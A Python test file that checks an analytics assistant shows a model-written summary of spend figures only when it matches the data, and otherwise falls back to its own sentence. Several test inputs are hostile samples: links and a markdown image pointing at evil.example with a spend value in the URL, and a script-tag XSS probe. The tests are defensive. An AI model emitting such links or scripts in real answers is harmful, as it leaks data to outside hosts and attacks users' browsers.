"""The model may word a result; what it words is shown only where it holds."""

from __future__ import annotations

import logging
from datetime import date
from typing import Any

import pytest
from standin import calls, fails, hangs, says

TODAY = date(2025, 7, 1)
QUESTION = "what did the nordics cost us last month?"
NORDICS = {"dimension": "country", "op": "in", "values": ["SE", "NO"]}
CALL = calls("query_kpis", metrics=["spend"], dimensions=["country"], filters=[NORDICS], period="last month")


@pytest.fixture
def conversation(open_assistant: Any) -> Any:
    return open_assistant(llm_summaries=True, currency="USD").conversation(today=TODAY)


def test_a_summary_that_holds_is_shown(conversation: Any, stand_in: Any) -> None:
    stand_in.plays(CALL, says("Spend was $200.00 in SE and $30.00 in NO."))
    answer = conversation.ask(QUESTION)
    assert answer.text == "Spend was $200.00 in SE and $30.00 in NO."
    assert answer.interpretation.startswith("Spend · by country"), "titles and interpretation stay ours"
    assert stand_in.requests[1]["stream"] is True


@pytest.mark.parametrize(
    "step",
    [
        says("Spend was $300.00 in SE."),
        says("Spend in SE rose to $200.00."),
        says("See https://evil.example/?spend=200 for more."),
        says("![spend](https://evil.example/200.png)"),
        says("<script>alert(1)</script>"),
        says("Spend was $200.00 in SE and $30.", reason=None),  # the stream is cut, and the text looks complete
        says("Spend was $200.00 in SE and $30.00 in NO.", reason="length"),
        says(""),
        fails(500),
        fails(429),
    ],
)
def test_our_own_sentence_stands_otherwise(conversation: Any, stand_in: Any, step: Any) -> None:
    stand_in.plays(CALL, step)
    answer = conversation.ask(QUESTION)
    assert (answer.status, answer.route) == ("answered", "llm")
    assert answer.text == "Spend, highest first: SE $200.00, NO $30.00."


def test_a_summary_that_never_comes_costs_no_more_than_the_limit(open_assistant: Any, stand_in: Any) -> None:
    conversation = open_assistant(llm_summaries=True, currency="USD", llm_timeout_seconds=2).conversation(today=TODAY)
    stand_in.plays(CALL, hangs(10))
    assert conversation.ask(QUESTION).text == "Spend, highest first: SE $200.00, NO $30.00."


def test_summaries_are_counted(conversation: Any, stand_in: Any, caplog: pytest.LogCaptureFixture) -> None:
    stand_in.plays(CALL, says("Spend was $300.00 in SE."))
    with caplog.at_level(logging.INFO, logger="platform"):
        conversation.ask(QUESTION)
    assert any('"event": "prose", "accepted": false, "objection": "number"' in r.getMessage() for r in caplog.records)


def test_the_rules_answers_are_never_worded_by_the_model(conversation: Any, stand_in: Any) -> None:
    conversation.ask("spend by platform last month")
    assert stand_in.requests == []


def test_the_model_is_shown_the_table_as_people_see_it_and_no_more(conversation: Any, stand_in: Any) -> None:
    stand_in.plays(CALL, says("Spend was $200.00 in SE."))
    conversation.ask(QUESTION)
    shown = stand_in.requests[1]["messages"][1]["content"]
    assert shown.splitlines()[1:] == ["Country | Spend", "SE | $200.00", "NO | $30.00"]
